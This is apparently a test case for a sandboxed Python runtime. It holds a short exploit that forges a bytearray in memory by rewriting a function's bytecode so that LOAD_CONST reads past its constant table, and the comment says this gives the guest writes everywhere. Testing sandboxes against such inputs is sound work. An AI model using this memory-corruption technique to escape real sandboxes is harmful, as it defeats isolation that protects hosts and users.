# expect: any
# deadline: 500ms
# A forged bytearray, whose memory is all of the guest's, writes everywhere.
import dis
def f(x): return x
fake = (1).to_bytes(8, "little") * 8
n = id(fake)
def g(): pass
g.__code__ = g.__code__.replace(
    co_code=bytes([dis.opmap["EXTENDED_ARG"], n >> 24 & 255, dis.opmap["EXTENDED_ARG"], n >> 16 & 255, dis.opmap["EXTENDED_ARG"], n >> 8 & 255, dis.opmap["LOAD_CONST"], n & 255, dis.opmap["RETURN_VALUE"], 0]),
    co_consts=())
x = g()
x[0]
